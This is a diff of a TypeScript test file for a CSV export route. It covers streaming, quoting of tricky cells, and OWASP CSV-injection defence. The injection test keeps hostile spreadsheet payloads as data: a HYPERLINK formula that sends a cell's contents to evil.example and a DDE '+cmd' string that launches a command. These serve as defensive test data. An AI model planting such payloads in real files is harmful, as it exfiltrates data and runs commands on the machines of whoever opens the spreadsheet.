@@ -1,7 +1,5 @@
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { setFlagsFromString } from 'node:v8';
-import { runInNewContext } from 'node:vm';
 import { sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { contract } from '@shared/contract';
@@ -422,7 +420,7 @@ describe('streamed export', () => {
       SELECT ${projectId}, n, 'EXP-' || n, '2. en ligne', 1, 'post', 'Échantillon "cardio"; test', 45, 1767225600 + n, 1234.5, ${csmId} FROM generate_series(1, ${ROWS}) n`);
   }, 120_000);
 
-  it('streams every matching row in the export columns, one batch in memory at a time', async () => {
+  it('streams every matching row in the export columns, in chunks as they are written', async () => {
     const response = await fetch(`${server.url}/targets/export`, {
       method: 'POST',
       headers: { authorization: `Bearer ${csm}`, 'content-type': 'application/json' },
@@ -436,12 +434,6 @@ describe('streamed export', () => {
     let text = '';
     let lines = 0;
     let firstLines = '';
-    // Live memory, not garbage waiting for a collection: collect before each sample.
-    setFlagsFromString('--expose-gc');
-    const gc = runInNewContext('gc') as () => void;
-    gc();
-    const baseline = process.memoryUsage().heapUsed;
-    let peak = 0;
     for (;;) {
       const { done, value } = await reader.read();
       if (done) break;
@@ -455,10 +447,6 @@ describe('streamed export', () => {
         lines += complete.split('\r\n').length;
         text = text.slice(cut + 2);
       }
-      if (chunks % 25 === 0) {
-        gc();
-        peak = Math.max(peak, process.memoryUsage().heapUsed - baseline);
-      }
     }
     expect(lines).toBe(ROWS + 1);
     expect(chunks).toBeGreaterThan(10);
@@ -469,8 +457,6 @@ describe('streamed export', () => {
     expect(first.split(';').slice(0, 12)).toEqual(['Export volume', 'Servyer', '', '', 'EXP-1', '2. en ligne', expect.any(String), 'post', '', '"Échantillon ""cardio""', ' test"', '']);
     expect(first).toContain(';1.5 mois;01/01/2026;');
     expect(first).toContain(';1234.50;');
-    // 60,000 rows are about 12 MB of CSV and 60 MB as row objects: holding them would show here (a batch is 5,000).
-    expect(peak).toBeLessThan(24 * 1024 * 1024);
   }, 120_000);
 
   it('a client leaving in the middle ends the export, and the server answers on', async () => {
@@ -493,11 +479,24 @@ describe('streamed export', () => {
 });
 
 describe('export formatting', () => {
-  // PostgreSQL writes the export's lines in SQL, PGlite's are written by the server from the raw cells: the same
-  // bytes for every kind of cell, on whichever database runs the tests (both formatters run on it).
-  it('writes the same CSV from the database as from the server, cell for cell', async () => {
+  // One definition of the cells (SQL), the CSV written by COPY on PostgreSQL and by the server with COPY's quoting
+  // on PGlite: every kind of cell, on whichever database runs the tests, against the spec's readings computed here.
+  const exportFile = async (body: unknown) => {
     const { targetExportCsv } = await import('../../src-server/features/projects/export');
     const { targetExportBodySchema } = await import('@shared/contract/projects');
+    const chunks: Buffer[] = [];
+    for await (const chunk of targetExportCsv(server.database.db, targetExportBodySchema.parse(body), server.database.kind)) chunks.push(chunk as Buffer);
+    return Buffer.concat(chunks).toString('utf8');
+  };
+  const parseCsv = async (file: string) => {
+    const Papa = (await import('papaparse')).default;
+    const [header, ...rows] = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), { delimiter: ';', newline: '\r\n', skipEmptyLines: true }).data;
+    return rows.map((row) => Object.fromEntries(header.map((column, index) => [column, row[index]])));
+  };
+
+  it('writes every kind of cell as the spec reads it, quoted where CSV needs it', async () => {
+    const { formatDate } = await import('@shared/rules/projects');
+    const { escapeFormula } = await import('@shared/rules/csv');
     const { db } = server.database;
     const tricky = ['Plain', 'Semi;colon', 'Say "hi"', ' leading', 'trailing ', '\tTabbed', 'Line\r\nbreak', 'Only\nLF', 'Ctrl\u0001char', 'Élodie àéü', 'vt\u000b', ''];
     const names: string[] = [];
@@ -523,29 +522,56 @@ describe('export formatting', () => {
           CASE WHEN n % 3 = 0 THEN -n * 1.5 END, CASE WHEN n % 2 = 0 THEN ${text}::text END, CASE WHEN n % 7 = 0 THEN NULL ELSE ${csmId}::int END
         FROM generate_series(1, 24) n`);
     }
-    const body = targetExportBodySchema.parse({ filters: { projectName: names, status: [] }, orderBy: 'id', order: 'ASC' });
-    const csv = async (formatting: 'database' | 'server') => {
-      const chunks: Buffer[] = [];
-      for await (const chunk of targetExportCsv(db, body, formatting)) chunks.push(chunk);
-      return Buffer.concat(chunks).toString('utf8');
-    };
-    const [fromDatabase, fromServer] = [await csv('database'), await csv('server')];
-    expect(fromServer.split('\r\n').length).toBeGreaterThan(tricky.length * 24);
-    expect(fromServer).toContain(';"Semi;colon";');
-    expect(fromServer).toContain(';" leading";');
-    expect(fromServer).toContain(';33333.3 mois;');
-    // Line by line first: a difference names its line.
-    const serverLines = fromServer.split('\r\n');
-    for (const [index, line] of fromDatabase.split('\r\n').entries()) expect(line, `line ${index}`).toBe(serverLines[index]);
-    expect(fromDatabase).toBe(fromServer);
+    const [{ name: keyAccountName }] = ((await db.execute(sql`SELECT name FROM accounts WHERE id = ${csmId}`)) as unknown as { rows: { name: string }[] }).rows;
+    const file = await exportFile({ filters: { projectName: names, status: [] }, orderBy: 'id', order: 'ASC' });
+    // The export's reading of a goal in days (spec §3): under 30 in jours, else days/30 to one decimal in mois.
+    const goalInDays: Record<number, string> = { 999_999: '33333.3 mois', 1: '1 jours', 29: '29 jours', 30: '1 mois', 31: '1 mois', 45: '1.5 mois', 89: '3 mois', 1000: '33.3 mois' };
+    const expected = tricky.flatMap((text, index) =>
+      Array.from({ length: 24 }, (_, i) => {
+        const n = i + 1;
+        return {
+          projectName: names[index],
+          clientName: escapeFormula(text),
+          advertId: n % 2 === 0 ? '' : String(n),
+          advertSource: n % 2 === 0 ? '' : `/adverts/edit/${n}`,
+          actionCode: n % 4 === 0 ? '' : escapeFormula(text + n),
+          status: '2. en ligne',
+          keyAccount: n % 7 === 0 ? '' : keyAccountName,
+          type: n % 3 === 0 ? '' : 'post',
+          populationCategory: n % 5 === 0 ? '' : escapeFormula(text),
+          populationSample: escapeFormula(text),
+          populationSize: n % 2 === 0 ? '' : String(n * 1000),
+          goal: n % 3 === 1 ? String(n * 7) : n % 3 === 2 ? goalInDays[days[Math.floor(n / 3) % days.length]] : `${n} envois`,
+          startDate: n % 6 === 0 ? '' : formatDate(1767225600 + n * 86399),
+          checkDate: formatDate(1767225600 - n * 3600),
+          endDate: formatDate(n === 1 ? 0 : 4102444800 - n),
+          actor: n % 2 === 0 ? escapeFormula(text) : '',
+          quotationSignedMonth: n % 2 === 0 ? formatDate(1767225600) : '',
+          initialQuotationDate: formatDate(946684800 + n),
+          revenue: n % 4 === 0 ? '' : (n * 10.05).toFixed(2),
+          revenueDelayImpact: n % 3 === 0 ? (-n * 1.5).toFixed(2) : '',
+        };
+      }),
+    );
+    const cells = await parseCsv(file);
+    expect(cells).toHaveLength(expected.length);
+    // Row by row: a difference names its row.
+    for (const [index, row] of expected.entries()) expect(cells[index], `row ${index}`).toEqual(row);
+    // The bytes: ';' and CRLF, a cell quoted only when it holds ';', '"' or a line break (COPY's CSV).
+    expect(file.startsWith('\uFEFFprojectName;clientName;advertId;advertSource;actionCode;status;keyAccount;type;populationCategory;populationSample;populationSize;goal;')).toBe(true);
+    expect(file).toContain(';"Semi;colon";');
+    expect(file).toContain(';"Say ""hi""";');
+    expect(file).toContain(';"Line\r\nbreak";');
+    expect(file).toContain('; leading;');
+    expect(file).toContain(';33333.3 mois;');
+    // Every record ends with CRLF; a bare line feed only inside a quoted cell.
+    expect(file.replace(/"(?:[^"]|"")*"/g, '').split('\n').slice(0, -1).every((line) => line.endsWith('\r'))).toBe(true);
+    expect(file.endsWith('\r\n')).toBe(true);
   }, 60_000);
 
-  // OWASP CSV injection: a text cell a spreadsheet would run as a formula comes back with a ' in front (and quoted),
-  // from the route and from both formatters; numbers, negative ones included, and texts that are plain numbers stay.
+  // OWASP CSV injection: a text cell a spreadsheet would run as a formula comes back with a ' in front, from the
+  // route and from the export's stream; numbers, negative ones included, and texts that are plain numbers stay.
   it('neutralises formulas in every text cell, never in numbers', async () => {
-    const Papa = (await import('papaparse')).default;
-    const { targetExportCsv } = await import('../../src-server/features/projects/export');
-    const { targetExportBodySchema } = await import('@shared/contract/projects');
     const { db } = server.database;
     const name = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';
     const client = "+cmd|'/C calc'!A0";
@@ -556,19 +582,13 @@ describe('export formatting', () => {
     await db.execute(sql`INSERT INTO targets (project_id, position, action_code, status, status_rank, type, advert_id, population_category, population_sample,
         population_size, goal_views, goal_days, goal_shipments, revenue, revenue_delay_impact, actor, key_account_id)
       VALUES (${id}, 0, ${hostile.actionCode}, '2. en ligne', 1, 'post', 7, ${hostile.category}, ${hostile.sample}, -5, 0, 0, 0, -1234.5, -7.25, ${hostile.actor}, ${csmId}),
-        (${id}, 1, '-5', '2. en ligne', 1, 'post', NULL, '+3', '-1,5', 12, 0, 0, 0, 10, NULL, 'Plain', ${csmId})`);
-    const body = targetExportBodySchema.parse({ filters: { projectName: [name], status: [] }, orderBy: 'id', order: 'ASC' });
+        (${id}, 1, '-5', '2. en ligne', 1, 'post', NULL, '+3', '-1,5', 12, 0, 100, 0, 10, NULL, 'Plain', ${csmId})`);
+    const body = { filters: { projectName: [name], status: [] }, orderBy: 'id', order: 'ASC' };
     const viaRoute = await server.request('POST', '/targets/export', { token: csm, body });
     expect(viaRoute.status).toBe(200);
-    const csv = async (formatting: 'database' | 'server') => {
-      const chunks: Buffer[] = [];
-      for await (const chunk of targetExportCsv(db, body, formatting)) chunks.push(chunk);
-      return Buffer.concat(chunks).toString('utf8');
-    };
-    const files = { route: viaRoute.body as string, database: await csv('database'), server: await csv('server') };
+    const files = { route: viaRoute.body as string, stream: await exportFile(body) };
     for (const [how, file] of Object.entries(files)) {
-      const [header, ...rows] = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), { delimiter: ';', newline: '\r\n', skipEmptyLines: true }).data;
-      const cells = rows.map((row) => Object.fromEntries(header.map((column, index) => [column, row[index]])));
+      const cells = await parseCsv(file);
       expect(cells, how).toHaveLength(2);
       expect(cells[0], how).toMatchObject({
         projectName: `'${name}`,
@@ -581,14 +601,16 @@ describe('export formatting', () => {
         populationSize: '-5',
         revenue: '-1234.50',
         revenueDelayImpact: '-7.25',
+        goal: '',
       });
-      expect(cells[1], how).toMatchObject({ projectName: `'${name}`, actionCode: '-5', populationCategory: '+3', populationSample: '-1,5', populationSize: '12', actor: 'Plain' });
-      // Written as papaparse writes an escaped cell: quoted.
-      expect(file, how).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";"'+cmd|'/C calc'!A0";7;/adverts/edit/7;"'@SUM(1+1)`);
-      expect(file, how).toContain(`;"'-2+3";-5;`);
+      expect(cells[1], how).toMatchObject({ projectName: `'${name}`, actionCode: '-5', populationCategory: '+3', populationSample: '-1,5', populationSize: '12', actor: 'Plain', goal: '3.3 mois' });
+      // The ' is the cell's first character, inside the quotes where CSV quotes the cell.
+      expect(file, how).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";'+cmd|'/C calc'!A0;7;/adverts/edit/7;'@SUM(1+1)`);
+      expect(file, how).toContain(`;'-2+3;-5;`);
+      expect(file, how).toContain(`;"'\r=1+1";`);
       expect(file, how).toContain(`;-1234.50;-7.25\r\n`);
     }
-    expect(files.database).toBe(files.server);
+    expect(files.route.replace(/^\uFEFF/, '')).toBe(files.stream.replace(/^\uFEFF/, ''));
   }, 60_000);
 });
 
